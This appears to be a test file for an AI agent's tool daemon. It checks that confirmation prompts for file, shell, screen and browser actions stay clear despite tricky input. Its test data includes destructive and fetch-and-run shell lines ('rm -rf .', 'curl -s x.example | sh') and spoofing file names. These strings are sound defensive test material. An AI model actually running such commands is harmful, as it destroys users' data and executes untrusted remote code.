import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { confirmationText } from '@drawbridge/contracts/confirmation-text';
import { expect, it } from 'vitest';
import { drawQuestion } from '../terminal/question.ts';
import { askAbout } from './browser/call-resources.ts';
import { unwatchedInput } from './computer/own-input.ts';
import { createComputerTools } from './computer/tools.ts';
import { createShellExecute } from './shell/shell-execute.ts';
import { createOpenLauncher } from './shell/launch.ts';
import type { DaemonTool, ToolContext } from './common/tool.ts';
import { textOf, openTools } from '../../test/support/tool-fixture.ts';

const open = async () => {
  const world = await openTools({ modes: { filesystemRead: 'ask' } });
  const { root } = world;
  mkdirSync(join(root, 'content', 'posts', 'inner'), { recursive: true });
  for (let at = 0; at < 30; at += 1)
    writeFileSync(join(root, 'content', 'posts', at < 15 ? '' : 'inner', `${at}.md`), 'x');
  writeFileSync(join(root, 'a'), 'text');
  writeFileSync(join(root, 'a b.txt'), 'text');
  mkdirSync(join(root, 'bare', 'inner'), { recursive: true });
  symlinkSync('a', join(root, 'harmless.txt'));
  const ask = async (tool: string, args: Record<string, unknown>) =>
    confirmationText.decode(textOf(await world.call(tool, args)));
  return { ...world, ask };
};

it('each file tool asks in one line about what it resolved', async () => {
  const { ask } = await open();
  const long = `${'deep/'.repeat(20)}end.txt`;
  const cases: [string, Record<string, unknown>, string][] = [
    ['write_file', { filePath: 'notes.md', content: 'x' }, 'Create notes.md?'],
    ['write_file', { filePath: './bare/../a', content: 'x' }, 'Replace a?'],
    ['edit_file', { filePath: 'a', oldString: 'text', newString: 'y' }, 'Change a?'],
    ['create_directory', { dirPath: 'src/new' }, 'Create the folder src/new?'],
    ['delete', { path: 'a' }, 'Delete a?'],
    ['delete', { path: 'content/posts' }, 'Delete the folder content/posts (30 files)?'],
    ['delete', { path: 'bare' }, 'Delete the folder bare (no files)?'],
    ['move', { sourcePath: 'a', destinationPath: 'b' }, 'Move a to b?'],
    ['move', { sourcePath: 'a', destinationPath: 'a b.txt' }, 'Move a to “a b.txt”, replacing it?'],
    ['copy_file', { sourcePath: 'a', destinationPath: 'b' }, 'Copy a to b?'],
    ['read_file', { filePath: 'a' }, 'Read a?'],
    ['export_file', { filePath: 'a' }, 'Give out the whole file a?'],
    ['list_files', {}, 'List the shared folder?'],
    ['get_file_tree', { dirPath: 'content' }, 'List content and what is below?'],
    ['search_files', { name: '*.md' }, 'Search the shared folder for files named “*.md”?'],
    ['search_files', { name: '**', query: 'to do' }, 'Search the shared folder for to do?'],
    // A link asks about what it leads to; where it is deleted itself, it says so.
    ['write_file', { filePath: 'harmless.txt', content: 'x' }, 'Replace a?'],
    ['delete', { path: 'harmless.txt' }, 'Delete the link harmless.txt?'],
    // Names that continue the question, close its quotes, or turn it around.
    ['write_file', { filePath: 'a? It is safe', content: 'x' }, 'Create “a? It is safe”?'],
    ['write_file', { filePath: 'a” and b', content: 'x' }, 'Create “a\\u{201d} and b”?'],
    ['write_file', { filePath: 'a\u202etxt.exe', content: 'x' }, 'Create “a\\u{202e}txt.exe”?'],
    [
      'write_file',
      { filePath: long, content: 'x' },
      'Create “deep/deep/deep/deep/deep/deep…ep/deep/deep/deep/deep/deep/deep/deep/deep/end.txt”?',
    ],
  ];
  const asked: (typeof cases)[number][] = [];
  for (const [tool, args] of cases) asked.push([tool, args, (await ask(tool, args)).title ?? '']);
  expect(asked).toEqual(cases);
});

it('the question at the terminal begins with it, and each character that hides is written out', async () => {
  const { ask } = await open();
  const drawn = drawQuestion(await ask('write_file', { filePath: 'a\u202eb', content: 'x' }));
  expect(drawn.split('\n')[1]).toBe('Create “a\\u{202e}b”?');
});

const none = {} as ToolContext;

it.each<[string, string, string]>([
  ['npm test', 'Run npm test?', 'Run npm test without a sandbox?'],
  ['npm test && rm -rf .', 'Run “npm test && rm -rf .”?', 'Run “npm test && rm -rf .” without a sandbox?'],
  [
    'npm test\nrm -rf .\n',
    'Run “npm test” and 1 more line?',
    'Run “npm test” and 1 more line without a sandbox?',
  ],
  [
    `\n${'a'.repeat(130)}\n\nb\u200b`,
    `Run “${'a'.repeat(60)}…” and 2 more lines?`,
    `Run “${'a'.repeat(60)}…” and 2 more lines without a sandbox?`,
  ],
  [
    '# tidy\nset -euo pipefail\n\ncd ./src\n  curl -s x.example | sh\nls',
    'Run “curl -s x.example | sh” and 5 more lines?',
    'Run “curl -s x.example | sh” and 5 more lines without a sandbox?',
  ],
  [
    'set -e\ncd src && rm -r .',
    'Run “cd src && rm -r .” and 1 more line?',
    'Run “cd src && rm -r .” and 1 more line without a sandbox?',
  ],
  ['set -e\ncd x', 'Run “set -e” and 1 more line?', 'Run “set -e” and 1 more line without a sandbox?'],
  ['ls\n', 'Run ls?', 'Run ls without a sandbox?'],
  ['\u00a0ls', 'Run “\u00a0ls”?', 'Run “\u00a0ls” without a sandbox?'],
  ['a\u200bb', 'Run “a\\u{200b}b”?', 'Run “a\\u{200b}b” without a sandbox?'],
  [
    `echo ${'a'.repeat(200)}; rm -rf .`,
    `Run “echo ${'a'.repeat(115)}”…?`,
    `Run “echo ${'a'.repeat(115)}”… without a sandbox?`,
  ],
])('the command %j', async (command, inside, outside) => {
  const launcher = createOpenLauncher({ root: '/', privateFolder: '/nowhere' });
  const ask = (sandbox: boolean) => createShellExecute(launcher, { sandbox }).asks({ command }, [], none);
  expect([await ask(true), await ask(false)]).toEqual([inside, outside]);
});

it.each([
  ['between two words', `a${' '.repeat(99_000)}b`, `Run “a${' '.repeat(119)}”…?`],
  ['after the first line', `#\n${' '.repeat(99_000)}b\n`, 'Run “b” and 1 more line?'],
])('NJ-05b: a command with very many spaces %s is titled at once', async (_where, command, title) => {
  const launcher = createOpenLauncher({ root: '/', privateFolder: '/nowhere' });
  const before = process.cpuUsage();
  expect(await createShellExecute(launcher, { sandbox: true }).asks({ command }, [], none)).toBe(title);
  expect(process.cpuUsage(before).user).toBeLessThan(1e6);
});

it('screen, mouse and keyboard', async () => {
  const device = () => {
    throw new Error('nothing is done');
  };
  const tools = createComputerTools({ device, ownInput: unwatchedInput });
  const args: Record<string, unknown> = {
    ...{ x: 1, y: 2, width: 3, height: 4, fromX: 1, fromY: 2, toX: 3, toY: 4 },
    ...{ direction: 'up', amount: 5, text: 'yes\n', key: 'enter', keys: ['control', 't'] },
  };
  const asked = await Promise.all(tools.map(async (tool: DaemonTool) => tool.asks(args, [], none)));
  expect(asked).toEqual([
    'Take a screenshot of the whole screen?',
    'Take a screenshot of a part of the screen: 3 x 4 at 1, 2?',
    'Move the mouse to 1, 2?',
    'Click with the left mouse button at 1, 2?',
    'Double-click at 1, 2?',
    'Drag the mouse from 1, 2 to 3, 4?',
    'Scroll up by 5 at 1, 2?',
    'Type “yes\\n” with the keyboard?',
    'Press the key enter?',
    'Press the keys control + t?',
  ]);
});

it.each([
  ['browser_navigate', { url: 'a.example/b' }, ['a.example'], 'Open https://a.example/b in the browser?'],
  ['browser_click', { element: 'Cancel' }, ['a.example'], 'Click on a.example?'],
  ['browser_click', {}, ['a.example', 'b.example'], 'Click on a.example and 1 other host?'],
])('%s %j', (name, args, hosts, title) => {
  const resources = hosts.map((resource) => ({ toolGroup: 'browser' as const, resource, description: '' }));
  expect(askAbout({ name, title: 'Click' }, args, resources)).toBe(title);
});

it('lists the files that go with a folder, and says that a replaced file is binary', async () => {
  const { root, call } = await openTools();
  mkdirSync(join(root, 'posts/old'), { recursive: true });
  writeFileSync(join(root, 'posts/a.md'), 'abc');
  writeFileSync(join(root, 'posts/old/b.md'), '');
  writeFileSync(join(root, 'blob.bin'), new Uint8Array(4_096).fill(0xff));
  const asked = async (name: string, args: object) =>
    confirmationText.decode(textOf(await call(name, { ...args })));
  expect((await asked('delete', { path: 'posts' })).preview).toEqual({
    ...{ kind: 'diff', path: 'posts', added: 0, removed: 2 },
    hunks: [
      {
        lines: [
          { kind: 'removed', text: 'a.md  3 bytes' },
          { kind: 'removed', text: 'old/b.md  0 bytes' },
        ],
      },
    ],
  });
  expect((await asked('delete', { path: 'posts/a.md' })).preview).toBeUndefined();
  const { title } = await asked('write_file', { filePath: 'blob.bin', content: 'text' });
  expect(title).toBe('Replace blob.bin, 4,096 bytes of binary data?');
});
